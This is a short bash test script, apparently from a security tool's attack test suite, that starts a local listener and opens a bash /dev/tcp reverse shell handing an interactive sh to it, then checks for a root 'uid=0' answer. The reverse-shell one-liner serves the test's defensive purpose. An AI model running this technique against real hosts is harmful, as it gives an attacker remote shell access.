#!/usr/bin/env bash
# A reverse shell: bash connects back and hands the connection to an interactive sh as its three standard streams.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts

python3 "$peer" operator "$work/port" "$work/answers" 1 &
operator=$!
wait_for "$work/port"
bash -c "exec 3<>/dev/tcp/127.0.0.1/$(<"$work/port"); exec sh -i <&3 >&3 2>&3" || true
wait "$operator"
grep -q 'uid=0' "$work/answers" || fail "the shell did not answer"
